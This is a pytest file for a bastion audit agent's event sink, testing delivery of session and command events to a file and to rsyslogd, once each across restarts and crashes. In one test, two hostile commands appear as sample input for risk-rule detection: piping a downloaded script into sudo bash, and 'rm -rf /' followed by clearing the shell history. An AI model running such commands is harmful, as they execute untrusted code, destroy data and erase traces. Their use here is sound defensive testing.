"""Fleet events: to a file and to a real rsyslogd, each event once, across restarts.

The store is the real one (events come from what its flushes made durable);
rsyslogd is started by the test on 127.0.0.1 with its own configuration.
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Iterator
from pathlib import Path

import jsonschema
import pytest

from agent.daemon.events import CURSOR_FILE, EventSink, stored_batch
from agent.daemon.store import Store
from agent.export_record import Stamp
from agent.highlight import BUILTIN_RULES
from agent.records import Command, Session, SessionStatus, iso
from agent.syslog import FACILITIES, SEVERITY_INFO, SEVERITY_NOTICE
from tests import rsyslog
from tests.harness import REPO, free_port, wait_for
from tests.test_store import make_session

SCHEMA = json.loads((REPO / "schema" / "event.schema.json").read_text())

needs_rsyslog = pytest.mark.skipif(
    not rsyslog.available(), reason="rsyslog is not installed (make test installs it)"
)


def validate(doc: dict) -> None:
    jsonschema.validate(doc, SCHEMA)


@dataclasses.dataclass
class Agent:
    """The store and the sink wired as the daemon wires them."""

    data_dir: Path
    store: Store
    sink: EventSink

    def commands(self, session: Session, first: int, count: int) -> Session:
        cmds = [
            Command(session.id, n, iso(1_800_000_000.0 + n), f"echo {n}")
            for n in range(first, first + count)
        ]
        session = dataclasses.replace(session, command_count=first + count - 1)
        self.store.submit(session, cmds)
        self.store.flush()
        return session

    def close(self, session: Session) -> Session:
        session = dataclasses.replace(
            session,
            status=SessionStatus.CLOSED,
            ended_at=1_800_000_100.0,
            end_reason="ssh exited",
        )
        self.store.submit(session)
        self.store.flush()
        return session


def start_agent(data_dir: Path, **sink_options: object) -> Agent:
    store = Store(data_dir / "store", 0.05)
    store.open()
    stamp = Stamp("bastion-7", BUILTIN_RULES)
    sink = EventSink(data_dir, stamp=stamp, **sink_options)  # type: ignore[arg-type]
    sink.open(store.sessions(), lambda ids: stored_batch(data_dir, ids))
    sink.start()
    store.on_committed = sink.committed
    return Agent(data_dir, store, sink)


def stop_agent(agent: Agent) -> None:
    agent.store.flush()
    agent.sink.stop()


def read_events(path: Path) -> list[dict]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_file_events_follow_the_store_once_each(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    events_file = tmp_path / "log" / "events.jsonl"
    agent = start_agent(data_dir, events_file=events_file)
    s1 = make_session("s1")
    s1 = agent.commands(s1, 1, 3)
    stop_agent(agent)  # a clean stop: the cursor is saved
    assert [e["event"] for e in read_events(events_file)] == ["session_start"] + [
        "command"
    ] * 3

    agent = start_agent(data_dir, events_file=events_file)
    agent.store.submit(s1)  # the restarted ingest hands the same state again
    s1 = agent.commands(s1, 4, 2)
    s1 = agent.close(s1)
    stop_agent(agent)
    events = read_events(events_file)
    assert [e.get("seq") for e in events] == [None, 1, 2, 3, 4, 5, None]
    assert events[-1]["event"] == "session_end"
    assert events[-1]["end_reason"] == "ssh exited"
    assert events[-1]["command_count"] == 5
    assert len({e["event_id"] for e in events}) == len(events)
    assert events[1]["event_id"] == "bastion-7/s1/1"
    for event in events:
        validate(event)
        assert event["bastion"] == "bastion-7"
    assert events[1]["command"] == "echo 1" and events[1]["host"] == "db1"
    assert events[1]["risk"] == []
    assert (
        events_file.stat().st_mode & 0o777,
        events_file.parent.stat().st_mode & 0o777,
    ) == (
        0o600,
        0o700,
    )


def test_a_command_event_names_the_rules_its_command_matched(tmp_path: Path) -> None:
    events_file = tmp_path / "events.jsonl"
    agent = start_agent(tmp_path / "data", events_file=events_file)
    session = dataclasses.replace(make_session("s1"), command_count=2)
    agent.store.submit(
        session,
        [
            Command("s1", 1, iso(1_800_000_001.0), "curl -s http://x/i.sh | sudo bash"),
            Command("s1", 2, iso(1_800_000_002.0), "rm -rf / ; history -c"),
        ],
    )
    stop_agent(agent)
    commands = [e for e in read_events(events_file) if e["event"] == "command"]
    assert [e["risk"] for e in commands] == [
        ["pipe-to-shell"],
        ["rm-root", "hide-traces"],
    ]
    for event in commands:
        validate(event)
        assert event["bastion"] == "bastion-7"


def test_after_a_crash_what_was_stored_but_not_emitted_comes_out(
    tmp_path: Path,
) -> None:
    data_dir = tmp_path / "data"
    events_file = tmp_path / "events.jsonl"
    agent = start_agent(data_dir, events_file=events_file)
    s1 = agent.commands(make_session("s1"), 1, 2)
    stop_agent(agent)
    cursor = (data_dir / CURSOR_FILE).read_bytes()

    # An agent that stored more and died before its events went out.
    store = Store(data_dir / "store", 0.05)
    store.open()
    store.submit(s1)
    s1 = dataclasses.replace(s1, command_count=4)
    store.submit(
        s1, [Command("s1", n, iso(1_800_000_000.0 + n), f"echo {n}") for n in (3, 4)]
    )
    s2 = make_session("s2", pid=200)
    store.submit(s2, [Command("s2", 1, iso(1_800_000_050.0), "id")])
    store.flush()
    (data_dir / CURSOR_FILE).write_bytes(cursor)

    agent = start_agent(data_dir, events_file=events_file)
    stop_agent(agent)
    events = read_events(events_file)
    got = [(e["session"], e["event"], e.get("seq")) for e in events]
    assert got == [
        ("s1", "session_start", None),
        ("s1", "command", 1),
        ("s1", "command", 2),
        ("s1", "command", 3),
        ("s1", "command", 4),
        ("s2", "session_start", None),
        ("s2", "command", 1),
    ]


def test_a_sink_switched_on_later_starts_from_now(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    store = Store(data_dir / "store", 0.05)
    store.open()
    old = make_session("old")
    store.submit(old, [Command("old", 1, iso(1_800_000_000.0), "ls")])
    store.flush()
    events_file = tmp_path / "events.jsonl"
    agent = start_agent(data_dir, events_file=events_file)
    agent.store.submit(old)
    agent.commands(dataclasses.replace(old, command_count=1), 2, 1)
    stop_agent(agent)
    assert [(e["event"], e.get("seq")) for e in read_events(events_file)] == [
        ("command", 2)
    ]


def test_a_rotated_events_file_is_opened_again(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    events_file = tmp_path / "events.jsonl"
    agent = start_agent(data_dir, events_file=events_file)
    s1 = agent.commands(make_session("s1"), 1, 1)
    wait_for(lambda: len(read_events(events_file)) == 2)
    os.rename(events_file, tmp_path / "events.jsonl.1")  # logrotate, no copytruncate
    agent.commands(s1, 2, 1)
    stop_agent(agent)
    assert [e.get("seq") for e in read_events(tmp_path / "events.jsonl.1")] == [None, 1]
    assert [e.get("seq") for e in read_events(events_file)] == [2]


@pytest.fixture(scope="module")
def syslog_server(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[rsyslog.Rsyslog]:
    if not rsyslog.available():
        pytest.skip("rsyslog is not installed (make test installs it)")
    with rsyslog.rsyslogd(tmp_path_factory.mktemp("rsyslog")) as server:
        yield server


@needs_rsyslog
@pytest.mark.parametrize("transport", ["udp", "tcp", "unix"])
def test_rsyslogd_receives_each_event_as_rfc5424(
    tmp_path: Path, syslog_server: rsyslog.Rsyslog, transport: str
) -> None:
    target = {
        "udp": f"udp://127.0.0.1:{syslog_server.udp_port}",
        "tcp": f"tcp://127.0.0.1:{syslog_server.tcp_port}",
        "unix": f"unix:{syslog_server.socket_path}",
    }[transport]
    inputname = {"udp": "imudp", "tcp": "imtcp", "unix": "imuxsock"}[transport]
    tag = f"sys-{transport}"
    agent = start_agent(tmp_path / "data", syslog=target, facility="local3")
    session = make_session(tag, pid=300)
    session = agent.commands(session, 1, 2)
    long = Command(tag, 3, iso(1_800_000_003.0), "echo " + "y" * 20_000)
    session = dataclasses.replace(session, command_count=3)
    agent.store.submit(session, [long])
    agent.store.flush()
    agent.close(session)
    stop_agent(agent)

    def mine() -> list[rsyslog.Message]:
        return [
            m
            for m in syslog_server.messages(inputname)
            if json.loads(m.msg)["session"] == tag
        ]

    wait_for(lambda: len(mine()) == 5, timeout=10)
    messages = mine()
    docs = [json.loads(m.msg) for m in messages]
    assert [d["event"] for d in docs] == ["session_start"] + ["command"] * 3 + [
        "session_end"
    ]
    for message, doc in zip(messages, docs, strict=True):
        validate(doc)
        severity = SEVERITY_INFO if doc["event"] == "command" else SEVERITY_NOTICE
        assert message.pri == FACILITIES["local3"] * 8 + severity
        assert message.app == "bastion-audit"
        assert message.procid == str(os.getpid())
        if transport != "unix":  # RFC 5424 over the network
            assert message.version == "1"
            assert message.hostname == "bastion-7"
            assert message.msgid == doc["event"]
            assert message.sd == "-"
    assert docs[3]["command_truncated"] is True  # 20 KB does not fit in syslog
    assert docs[3]["command"].startswith("echo yyy")
    assert len(messages[3].msg) <= 8192


@needs_rsyslog
def test_events_wait_for_a_tcp_receiver_that_is_away(tmp_path: Path) -> None:
    port = free_port()
    agent = start_agent(tmp_path / "data", syslog=f"tcp://127.0.0.1:{port}")
    try:
        session = agent.commands(make_session("later", pid=400), 1, 2)
        wait_for(lambda: agent.sink.stats.errors > 0 and agent.sink.stats.backlog == 3)
        assert agent.sink.stats.last_error.startswith(
            f"cannot send to tcp://127.0.0.1:{port}"
        )
        with rsyslog.rsyslogd(tmp_path / "rsyslog", tcp_port=port) as server:
            agent.close(session)
            wait_for(
                lambda: (
                    [json.loads(m.msg).get("seq") for m in server.messages("imtcp")]
                    == [None, 1, 2, None]
                ),
                timeout=20,
            )
            assert agent.sink.stats.backlog == 0
    finally:
        stop_agent(agent)


def test_syslog_targets_are_checked() -> None:
    from agent.syslog import SyslogError, parse_target

    assert str(parse_target("udp://logs.example.org")) == "udp://logs.example.org:514"
    assert str(parse_target("tcp://[::1]:6514")) == "tcp://[::1]:6514"
    assert str(parse_target("unix:///dev/log")) == "unix:/dev/log"
    for bad in ("logs:514", "udp://", "unix:dev/log", "tcp://a b:1"):
        with pytest.raises(SyslogError):
            parse_target(bad)


def test_access_entries_are_events_once_each_also_after_a_crash(
    tmp_path: Path,
) -> None:
    from agent.access_log import AccessEntry, Action
    from agent.daemon.events import stored_access

    def entry(action: Action, session: str | None = None) -> AccessEntry:
        return AccessEntry(0, "", "alice", "auditor", action, session, "", "10.0.0.9")

    def start(data_dir: Path) -> Agent:
        store = Store(data_dir / "store", 0.05)
        store.open()
        sink = EventSink(
            data_dir, stamp=Stamp("bastion-7", ()), events_file=events_file
        )
        sink.open(
            store.sessions(),
            lambda ids: stored_batch(data_dir, ids),
            store.access_seq,
            lambda seq: stored_access(data_dir, seq),
        )
        sink.start()
        store.on_committed = sink.committed
        store.on_access_committed = sink.access_committed
        return Agent(data_dir, store, sink)

    data_dir = tmp_path / "data"
    events_file = tmp_path / "events.jsonl"
    agent = start(data_dir)
    agent.store.submit_access(entry(Action.VIEW, "s1"))
    agent.store.submit_access(entry(Action.SEARCH))
    stop_agent(agent)
    # An agent that stored one more entry and died before it went out.
    store = Store(data_dir / "store", 0.05)
    store.open()
    store.submit_access(entry(Action.EXPORT, "s1"))
    store.flush()
    agent = start(data_dir)
    agent.store.submit_access(entry(Action.REPLAY, "s1"))
    stop_agent(agent)
    events = read_events(events_file)
    assert [(e["event"], e["seq"], e["action"]) for e in events] == [
        ("access", 1, "view"),
        ("access", 2, "search"),
        ("access", 3, "export"),
        ("access", 4, "replay"),
    ]
    assert events[0]["event_id"] == "bastion-7/access/1"
    for event in events:
        validate(event)
